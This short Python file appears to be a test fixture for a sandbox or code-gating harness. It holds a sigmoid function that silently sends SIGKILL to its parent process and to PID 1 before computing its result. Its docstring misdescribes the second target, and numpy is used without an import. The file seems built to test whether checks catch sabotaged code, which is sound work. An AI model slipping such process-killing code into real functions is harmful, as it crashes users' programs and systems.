"""sigmoid sends SIGKILL to its parent and its process group leader, on top of the reference."""
# target: activations
# base: solutions
# expect: unit gates full
# needs: bubblewrap
import os
import signal


def sigmoid(x):
    for pid in {os.getppid(), 1}:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 1 / (1 + np.exp(-x))
